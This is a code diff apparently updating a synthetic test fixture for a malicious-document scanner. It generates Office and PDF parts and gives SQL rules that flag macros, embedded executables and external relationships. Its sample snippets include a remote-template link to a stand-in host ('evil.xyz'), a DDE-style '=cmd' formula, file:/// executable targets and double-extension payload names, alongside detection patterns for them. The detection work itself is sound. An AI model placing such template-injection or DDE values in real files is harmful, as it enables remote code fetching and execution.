@@ -14,17 +14,19 @@ from threatscan.plans.catalog import query
 from threatscan.plans.url_queries import _any, _l
 from threatscan.rules import documents as R
 
-_RELATION = '<Relationship Type="http://x/{}" Target="{}" TargetMode="External"/>'
 #: profile -> names of parts, by key modulo their number.
 NAMES = {
-    "docx": ["word/document.xml", "word/_rels/settings.xml.rels", "word/embeddings/oleObject1.bin", "word/embeddings/a.pdf.exe", "word/run.vbs", "word/_rels/document.xml.rels", "docProps/app.xml"],
-    "xlsx": ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/connections.xml", "xl/drawings/oleObject2.bin", "xl/queryTables/q1.xml", "xl/_rels/workbook.xml.rels", "xl/macrosheets/s.xml"],
-    "pptx": ["ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels", "ppt/media/a.png", "ppt/media/b.gif", "ppt/vbaProject.bin", "ppt/embeddings/c.docx.scr", "ppt/slides/slide22.xml", "ppt/media/d.bmp"],
+    "docx": ["word/document.xml", "word/_rels/settings.xml.rels", "word/embeddings/oleObject1.bin", "word/embeddings/a.pdf.exe", "word/run.vbs", "word/_rels/document.xml.rels", "word/settings.xml", "word/media/image1.png", "word/_rels/image1.xml.rels", "word/embeddings/b.PS1", "docProps/app.xml"],
+    "xlsx": ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/connections.xml", "xl/drawings/oleObject2.bin", "xl/queryTables/q1.xml", "xl/_rels/workbook.xml.rels", "xl/macrosheets/s.xml", "xl/printerSettings/printerSettings1.bin", "xl/mySettings.xml", "xl/media/a.gif", "xl/drawings/_rels/image.xml.rels"],
+    "pptx": ["ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels", "ppt/media/a.png", "ppt/media/b.gif", "ppt/vbaProject.bin", "ppt/embeddings/c.docx.scr", "ppt/slides/slide22.xml", "ppt/media/d.JPG", "ppt/embeddings/o.bin", "ppt/embeddings/p.msi", "ppt/_rels/presentation.xml.rels"],
 }
+_TYPED = '<Relationship Type="http://x/{}" Target="{}" TargetMode="External"/>'
+_MODED = '<Relationship TargetMode="External" Type="http://x/{}" Target="{}"/>'
 #: Snippets, by whole key divided by the number of names, modulo their number.
 SNIPPETS = [
-    "", "MZ", _RELATION.format("attachedTemplate", "http://evil.xyz/t.dotm"), _RELATION.format("image", "https://cdn.example.org/x.PNG") + "https://schemas.microsoft.com/a http://evil.xyz/q", "=cmd|' /c calc exec(1) =run(2)", 'Provider=x OLEDB <sheet name="s" state="veryHidden"/><sheet state="hidden"/>',
+    "", "MZ", _TYPED.format("attachedTemplate", "http://evil.xyz/t.dotm"), _TYPED.format("image", "https://cdn.example.org/x.PNG") + "https://schemas.microsoft.com/a http://evil.xyz/q", "=cmd|' /c calc exec(1) =run(2)", 'Provider=x OLEDB <sheet name="s" state="veryHidden"/><sheet state="hidden"/>',
     "<p:timing><p:cmd/><p:cTn delay=\"0\"> mouseover", "hlinkClick<a:noFill/> ppaction://macro", "<p:ph/> hlinkMouseOver <p:oleObj", "GIF", "0123456789abcdef" * 6, "<p:timing> ppaction://program macrosheets call(",
+    _MODED.format("hyperlink", "https://support.microsoft.com/x") + _MODED.format("x", "file:///c:/a.exe") + _TYPED.format("y", "file:///c:/b.exe"), _MODED.format("slideTemplate", "https://a.example.org/p.jpeg") + "oleobject", "PNG", "https://officeapps.live.com/x http://b.example.org",
 ]
 
 
@@ -36,11 +38,19 @@ def _parts(spark, sf, profile):
     return docs.select(F.col("doc_id").alias("id"), name.alias("entry_name"), F.encode(F.concat(snippet, "text"), "UTF-8").alias("data"), F.lit(None).cast("string").alias("error"))
 
 
+def _target(of: str) -> str:
+    return f"list_transform(regexp_extract_all(x, '{of}'), lambda m: trim(regexp_extract(m, 'Target=\"([^\"]+)\"', 1)))"
+
+
 def _parts_sql(profile: str) -> str:
     names, n = NAMES[profile], len(NAMES[profile])
-    return rf"""q AS (SELECT doc_id AS id, lower({_l(names)}[1 + (doc_id % {n})::INT]) AS name, {_l(SNIPPETS)}[1 + ((doc_id // {n}) % {len(SNIPPETS)})::INT] || text AS x FROM documents),
-p AS (SELECT *, lower(x) AS low, ends_with(name, '.xml') AS xml, ends_with(name, '.rels') AS rels, regexp_matches(name, '{"embeddings|oleobject" + ("|drawings" if profile == "xlsx" else "")}') AS embedded,
-  list_filter(list_transform(regexp_extract_all(x, '<Relationship\b[^>]*TargetMode="External"[^>]*>'), lambda r: regexp_extract(r, 'Target="([^"]+)"', 1)), lambda u: length(u) > 0 AND NOT {_any("lower(u)", R.SAFE_DOMAINS)}) AS external,
+    safe = ["schemas.openxmlformats.org", "schemas.microsoft.com", "purl.org", "www.w3.org", "microsoft.com", "office.com"]
+    hosts = [*safe, "schemas.openformats.org", "officeapps.live.com"] if profile == "docx" else safe
+    return rf"""q AS (SELECT doc_id AS id, {_l(names)}[1 + (doc_id % {n})::INT] AS given, {_l(SNIPPETS)}[1 + ((doc_id // {n}) % {len(SNIPPETS)})::INT] || text AS x FROM documents),
+p AS (SELECT *, lower(given) AS name, lower(x) AS low, ends_with(given, '.xml') AS xml, ends_with(given, '.rels') AS rels,
+  list_filter({_target('TargetMode="External"[^>]*Target="[^"]+"')}, lambda u: starts_with(u, 'http')) AS outside,
+  list_filter({_target('TargetMode="External"[^>]*Target="[^"]+"|Target="[^"]+"[^>]*TargetMode="External"')}, lambda u: u <> '' AND NOT {_any("regexp_extract(lower(u), '^[a-z]+://([^/?#]*)', 1)", R.SAFE_DOMAINS)}) AS external,
+  list_filter(regexp_extract_all(x, 'https?://[^\s"<>]+'), lambda u: NOT {_any("lower(u)", hosts)}) AS unsafe,
   list_filter(regexp_extract_all(x, 'https?://[^\s"<>\]]+'), lambda u: NOT {_any("lower(u)", R.SAFE_DOMAINS)}) AS web FROM q)"""
 
 
@@ -51,11 +61,14 @@ def _n(words, of: str = "low") -> str:
 def _rules_sql(profile: str) -> list[tuple[str, str]]:
     """(how often, finding) of each rule; prose has too few different characters for the rules on entropy."""
     ppt = profile == "pptx"
-    rules = [
-        ("(embedded AND NOT rels)::INT", "embedded_ole_object"), (r"(embedded AND regexp_matches(name, '\.(exe|dll|scr|com|bat|cmd|pif)$'))::INT", "embedded_executable"), ("(embedded AND starts_with(x, 'MZ'))::INT", "mz_header_found" if ppt else "embedded_executable"),
-        (r"regexp_matches(name, '\.(js|vbs|ps1|bat|cmd|hta)$')::INT", "embedded_script"), (r"(embedded AND regexp_matches(name, '/[^/]*\.[^/.]+\.[^/.]+$'))::INT", "double_extension_payload"),
-        ("(rels AND contains(x, 'attachedTemplate') AND regexp_matches(x, 'Target=\"https?://'))::INT", "external_template"), (r"""(rels AND regexp_matches(x, '(?i)Target="https?://[^"]+\.(png|jpe?g|gif|bmp)'))::INT""", "image_tracker" if ppt else "external_image_tracker"),
-        ("CASE WHEN rels THEN len(external) ELSE 0 END", "external_relationship" if ppt else "suspicious_relationship"), ("CASE WHEN rels AND contains(name, 'settings') THEN len(web) ELSE 0 END", "hidden_relationship"),
+    inside = " OR ".join(f"contains(name, '{w}')" for w in {"docx": ["embeddings", "oleobject"], "xlsx": ["embeddings", "oleobject", "drawings"], "pptx": ["embeddings"]}[profile])
+    ends = lambda names: "(" + " OR ".join(f"ends_with(name, '{e}')" for e in names.split()) + ")"
+    mz = "starts_with(x, 'MZ')"
+    rules = [] if ppt else [
+        (f"({inside})::INT", "embedded_ole_object"), (f"(({inside}) AND {ends('.exe .dll .bat .cmd .ps1 .vbs .js .hta .scr .pif .com')})::INT", "embedded_executable"), (rf"(({inside}) AND regexp_matches(name, '/[^/]*\.[^/]*\.[^/]*$'))::INT", "double_extension_payload"),
+        (f"{ends('.js .vbs .ps1 .bat .cmd .hta')}::INT", "embedded_script"), (f"{mz}::INT", "embedded_executable"), ("(rels AND contains(x, 'attachedTemplate') AND regexp_matches(x, 'Target=\"https?://[^\"]+\"'))::INT", "external_template"),
+        ("CASE WHEN rels AND contains(name, 'image') THEN len(regexp_extract_all(x, 'Target=\"https?://[^\"]+\"')) ELSE 0 END", "external_image_tracker"), ("CASE WHEN rels THEN len(outside) ELSE 0 END", "suspicious_relationship"),
+        (f"CASE WHEN {'given = ' + chr(39) + 'word/settings.xml' + chr(39) if profile == 'docx' else 'xml AND contains(name, ' + chr(39) + 'settings' + chr(39) + ')'} THEN len(unsafe) ELSE 0 END", "hidden_relationship"),
     ]
     if profile == "docx":
         rules.append(("(xml AND regexp_matches(x, '[0-9a-fA-F]{80,}'))::INT", "encoded_macro_payload"))
@@ -70,18 +83,20 @@ def _rules_sql(profile: str) -> list[tuple[str, str]]:
             ("(name = 'xl/connections.xml' AND contains(low, 'oledb'))::INT", "ole_db_connection"), (when("name = 'xl/connections.xml'", _n(R.CONNECTIONS)), "suspicious_connection"), (when("name = 'xl/connections.xml'", "len(web)"), "external_data_connection"),
         ]
     if ppt:
-        slide = r"regexp_matches(name, '^ppt/slides/slide\d+\.xml$')"
+        slide = r"regexp_matches(given, '^ppt/slides/slide\d+\.xml')"
         timed = f"({slide} AND contains(x, '<p:timing>'))"
         acts = "(contains(x, 'hlinkClick') OR contains(x, 'hlinkMouseOver') OR contains(low, 'ppaction://'))"
-        fits = r"CASE WHEN ends_with(name, '.png') THEN false WHEN regexp_matches(name, '\.jpe?g$') THEN false WHEN ends_with(name, '.gif') THEN starts_with(x, 'GIF') WHEN ends_with(name, '.bmp') THEN starts_with(x, 'BM') ELSE true END"
-        media = "starts_with(name, 'ppt/media/')"
+        media = "contains(given, 'ppt/media/')"
         rules += [
+            ("(contains(name, 'embeddings') AND ends_with(name, '.bin'))::INT", "embedded_ole_object"), (f"(contains(name, 'embeddings') AND {ends('.exe .dll .bat .cmd .ps1 .vbs .js .hta .msi')})::INT", "embedded_executable"), (f"(contains(name, 'embeddings') AND {mz})::INT", "mz_header_found"),
+            (f"({slide} AND (contains(low, 'oleobj') OR contains(low, 'oleobject')))::INT", "embedded_ole_object"), ("CASE WHEN rels THEN len(external) ELSE 0 END", "external_relationship"),
+            ("CASE WHEN rels AND contains(lower(regexp_extract(x, 'Type=\"([^\"]+)\"', 1)), 'template') THEN len(external) ELSE 0 END", "template_injection"), ("CASE WHEN rels THEN len(list_filter(external, lambda u: starts_with(u, 'http://'))) ELSE 0 END", "suspicious_external_url"),
+            ("CASE WHEN rels THEN len(list_filter(external, lambda u: contains(lower(u), '.png') OR contains(lower(u), '.jpg') OR contains(lower(u), '.gif') OR contains(lower(u), '.jpeg'))) ELSE 0 END", "image_tracker"),
             (f"({slide} AND regexp_matches(x, '<p:oleObj|oleObject'))::INT", "package_object"), (f"({timed} AND contains(x, '<p:cmd'))::INT", "cmd_trigger_found"), (f"({timed} AND regexp_matches(x, '<p:cTn[^>]*delay=\"0\"'))::INT", "zero_delay_trigger"),
             (f"({timed} AND contains(low, 'mouseover'))::INT", "mouseover_trigger"), (f"{timed}::INT", "suspicious_animation"), (f"({slide} AND NOT contains(x, '<p:ph') AND contains(x, 'hlinkClick'))::INT", "action_button_found"),
             (f"({slide} AND NOT contains(x, '<p:ph') AND contains(x, 'hlinkMouseOver'))::INT", "mouseover_action"), (f"({slide} AND contains(low, 'ppaction://macro'))::INT", "macro_action_button"),
             (f"({slide} AND (contains(low, 'ppaction://hlinksldjump') OR contains(low, 'ppaction://program')))::INT", "run_program_action"), (f"({slide} AND contains(x, '<a:noFill/>') AND {acts})::INT", "invisible_button"),
-            (f"({media} AND NOT {fits})::INT", "media_type_mismatch"), (f"({media} AND starts_with(x, 'MZ'))::INT", "mz_header_found"), ("contains(name, 'vbaproject.bin')::INT", "vba_macro_detected"),
-            ("CASE WHEN rels AND regexp_matches(x, '(?i)Type=\"[^\"]*template') THEN len(external) ELSE 0 END", "template_injection"), ("CASE WHEN rels THEN len(list_filter(external, lambda u: starts_with(u, 'http://'))) ELSE 0 END", "suspicious_external_url"),
+            (f"({media} AND {ends('.png .jpg .jpeg')})::INT", "media_type_mismatch"), (f"({media} AND {mz})::INT", "embedded_executable"), ("contains(name, 'vbaproject.bin')::INT", "vba_macro_detected"),
         ]
     return rules
 
@@ -110,17 +125,27 @@ def part_findings_pptx(spark, sf):
     return _counted(D.part_findings(_parts(spark, sf, "pptx"), "pptx"))
 
 
+_PAGE_NOTES = ["", "password expired", "see https://ok.example.org/a", "http://evil.xyz/x", "  short  ", " \n\t"]
+
+
+def _notes(of: str) -> str:
+    return f"{_l(_PAGE_NOTES)}[1 + ({of} % {len(_PAGE_NOTES)})::INT]"
+
+
 @query(
     "pdf_pages",
-    """WITH p AS (SELECT doc_id // 4 AS id, sum(doc_id % 3) AS images, sum(length(trim(CASE WHEN doc_id % 5 = 0 THEN text ELSE left(text, 12) END))) AS chars, count(*) FILTER (doc_id % 2 = 0) AS links FROM documents GROUP BY 1)
-SELECT id, finding FROM (SELECT id, unnest([CASE WHEN images >= 1 AND chars < 100 AND links > 0 THEN 'single_image_pdf' END, CASE WHEN images > 0 AND links >= images THEN 'clickable_image_overlay' END]) AS finding FROM p) WHERE finding IS NOT NULL""",
+    rf"""WITH p AS (SELECT doc_id // 3 AS id, doc_id % 3 AS images, {_notes("(doc_id // 3)")} || CASE WHEN (doc_id // 3) % 4 = 0 THEN text ELSE '' END AS body, doc_id % 5 = 0 AS linked FROM documents),
+a AS (SELECT id, sum(images) AS images, count(*) FILTER (linked) AS links, length(regexp_replace(string_agg(body, '' ORDER BY images), '^\s+|\s+$', '', 'g')) AS chars,
+  bool_or({_any("lower(body)", [p for _, p in R.phrases("pdf")])}) OR bool_or(len(list_filter(regexp_extract_all(body, 'https?://[^\s<>"{{}}|\\^`\[\]]+'), lambda u: starts_with(u, 'http://') OR ends_with(regexp_extract(u, '^https?://([^/?#]*)', 1), '.xyz'))) > 0) AS signs FROM p GROUP BY id)
+SELECT id, finding FROM (SELECT id, unnest([CASE WHEN images >= 1 AND chars < 100 AND (links > 0 OR signs) THEN 'single_image_pdf' END, CASE WHEN images > 0 AND links > 0 AND links >= images THEN 'clickable_image_overlay' END]) AS finding FROM a) WHERE finding IS NOT NULL""",
 )
 def pdf_pages(spark, sf):
-    """Page tables: four documents are the pages of a file."""
+    """Page tables: three documents are the pages of a file, whole texts in every fourth file and a note in each."""
     d, k = spark.read.parquet(f"{sf}/documents.parquet"), F.col("doc_id")
-    id_ = F.floor(k / 4).cast("long").alias("id")
-    pages = d.select(id_, k.alias("page"), F.when(k % 5 == 0, F.col("text")).otherwise(F.left("text", F.lit(12))).alias("text"), (k % 3).alias("n_images"))
-    links = d.filter(k % 2 == 0).select(id_, k.alias("page"), F.lit("x").alias("visible_text"), F.lit("http://a").alias("url"))
+    id_ = F.floor(k / 3).cast("long")
+    note = F.get(X.array_of(_PAGE_NOTES), F.pmod(id_, F.lit(len(_PAGE_NOTES))).cast("int"))
+    pages = d.select(id_.alias("id"), k.alias("page"), F.concat(note, F.when(id_ % 4 == 0, F.col("text")).otherwise("")).alias("text"), (k % 3).alias("n_images"))
+    links = d.filter(k % 5 == 0).select(id_.alias("id"), k.alias("page"), F.lit("x").alias("visible_text"), F.lit("https://good.example.org").alias("url"))
     return D.pdf_page_findings(pages, links).select("id", "finding")
 
 
@@ -157,7 +182,7 @@ def _nested(values) -> str:
 
 
 _IMAGES = rf"""im AS (SELECT doc_id AS id, doc_id AS k, {_l(_EXT)}[1 + (doc_id % {len(_EXT)})::INT] AS ext, {_l(_HEADS)}[1 + ((doc_id // 5) % {len(_HEADS)})::INT] AS head, doc_id * 37 % 500000 AS size, 50 + doc_id * 13 % 700 AS width, 60 + doc_id * 29 % 600 AS height,
-  CASE WHEN doc_id % 9 = 0 THEN '' ELSE {_l(_SHOWN)}[1 + ((doc_id // 2) % {len(_SHOWN)})::INT] || CASE WHEN doc_id % 3 = 0 THEN ' ' || text ELSE '' END END AS t, {_nested(_CONF)}[1 + ((doc_id // 3) % {len(_CONF)})::INT] AS conf, {_nested(_QRS)}[1 + ((doc_id // 7) % {len(_QRS)})::INT] AS qr0,
+  CASE WHEN doc_id % 9 = 0 THEN '' ELSE {_l(_SHOWN)}[1 + ((doc_id // 2) % {len(_SHOWN)})::INT] || ' ' || text END AS t, {_nested(_CONF)}[1 + ((doc_id // 3) % {len(_CONF)})::INT] AS conf, {_nested(_QRS)}[1 + ((doc_id // 7) % {len(_QRS)})::INT] AS qr0,
   (doc_id % 100) / 100.0 AS white, doc_id % 40 AS sigma, (doc_id % 10) / 10.0 AS clear FROM documents),
 im1 AS (SELECT *, lower(t) AS low, len(regexp_extract_all(t, '[\p{{L}}\p{{N}}_\p{{M}}]+')) AS words, width * height AS pixels, list_transform(coalesce(qr0, []), lambda u: trim(u)) AS qr, list_filter(coalesce(conf, []), lambda x: x >= 0) AS cf,
   list_concat(list_transform(regexp_extract_all(t, '[a-zA-Z0-9.-]+\.(?:com|org|net|in|co\.in|gov\.in|edu|io|xyz|top|ru|tk)'), lambda d: lower(d)), list_transform(regexp_extract_all(t, 'https?://([^\s/]+)', 1), lambda d: lower(d))) AS domains,
@@ -194,7 +219,7 @@ def image_findings(spark, sf):
         one = lambda v: F.lit(None).cast(kind) if v is None else F.array(*(F.lit(x) for x in v)).cast(kind) if isinstance(v, list) else F.lit(v)
         return F.get(F.array(*(one(v) for v in values)), F.pmod(F.floor(k / step), F.lit(len(values))).cast("int"))
 
-    text = F.concat(at(_SHOWN, "string", 2), F.when(k % 3 == 0, F.concat(F.lit(" "), "text")).otherwise(""))
+    text = F.concat(at(_SHOWN, "string", 2), F.lit(" "), "text")
     rows = spark.read.parquet(f"{sf}/documents.parquet").select(
         k.alias("id"), F.concat(F.lit("/x/a"), at(_EXT, "string")).alias("path"), at(_HEADS, "string", 5).alias("head"), (k * 37 % 500_000).alias("size"), (50 + k * 13 % 700).alias("width"), (60 + k * 29 % 600).alias("height"),
         F.when(k % 9 == 0, "").otherwise(text).alias("ocr_text"), at(_CONF, "array<int>", 3).alias("ocr_conf"), at(_QRS, "array<string>", 7).alias("qr"), (k % 100 / 100).alias("white_share"), (k % 40).alias("sigma"), (k % 10 / 10).alias("clear_share"), F.when(k % 50 == 0, "none").alias("ocr_error"),
